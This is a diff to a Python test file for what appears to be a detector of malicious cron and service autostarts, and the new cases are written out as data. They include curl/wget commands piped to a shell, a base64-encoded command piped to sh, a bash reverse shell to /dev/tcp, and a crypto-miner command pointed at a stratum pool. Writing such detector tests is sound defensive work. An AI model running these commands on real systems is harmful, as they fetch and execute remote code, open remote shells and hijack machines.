@@ -361,16 +361,54 @@ def test_autostarts_of_one_family_that_wait_are_one_incident_and_others_are_not(
     other = cron("/tmp/minerd", user="ada")
     found = judged(snapshot(*lines, other)).incidents
     assert sorted(len(incident.actors) for incident in found) == [1, 2]
-    assert {incident.summary for incident in found} == {
+    assert {incident.summary.partition(": ")[0] for incident in found} == {
         "A miner of Kinsing (kdevtmpfsi) is started by 2 autostarts, and does not run now",
         "A miner of minerd and tplink is started by 1 autostart, and does not run now",
     }
+    assert all(" (cron, * * * * *, as " in incident.summary for incident in found)
 
 
-@pytest.mark.parametrize("line", [cron(FETCH), cron("/tmp/nightly.sh"), service("/tmp/build/server")])
+@pytest.mark.parametrize(
+    "line",
+    [
+        cron("curl -fsSL https://get.example.org/agent.sh | sh"),
+        cron("/tmp/nightly.sh"),
+        service("/tmp/build/server"),
+        cron("wget -q -O /srv/list.gz http://192.0.2.7/list.gz"),
+        cron("echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUub3JnL3g= | base64 -d | sh"),
+    ],
+)
 def test_an_autostart_of_which_only_one_thing_is_odd_is_told_as_considered(line: Autostart) -> None:
     found = judged(snapshot(line))
     assert (found.verdict, [one.subject for one in found.considered]) == (Verdict.CLEAN, [line.subject])
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        FETCH,
+        "curl -fsSL http://192.0.2.7/x.sh | sh",
+        "(curl -fsSL https://example.org/x||wget -q -O- https://example.org/x)|bash",
+        "curl -fsSL https://pastebin.com/raw/x1 | sh",
+        "bash -i >& /dev/tcp/192.0.2.1/8443 0>&1",
+        "/opt/x -o stratum+tcp://192.0.2.1:3333 -u w",
+        "/dev/shm/.x/run",
+    ],
+)
+def test_an_autostart_against_which_two_kinds_of_evidence_speak_is_an_incident(command: str) -> None:
+    line = cron(command)
+    incident = incident_of(snapshot(line))
+    assert incident.verdict is not Verdict.CLEAN
+    assert [actor.subject for actor in incident.actors] == [line.subject]
+
+
+def test_a_guilty_line_in_a_packages_file_is_found_and_its_honest_lines_are_let_be() -> None:
+    table = {"path": "/etc/crontab", "owner_package": "cron"}
+    honest = cron("cd / && run-parts --report /etc/cron.hourly", line=3, unmodified=False, **table)
+    added = cron("curl -fsSL http://192.0.2.7/x.sh | sh", line=9, unmodified=False, **table)
+    assert [one.subject for one in autostarts(incident_of(snapshot(honest, added)))] == [added.subject]
+    as_installed = msgspec.structs.replace(added, unmodified=True)
+    assert judged(snapshot(honest, as_installed)).verdict is Verdict.CLEAN
 
 
 # Remains
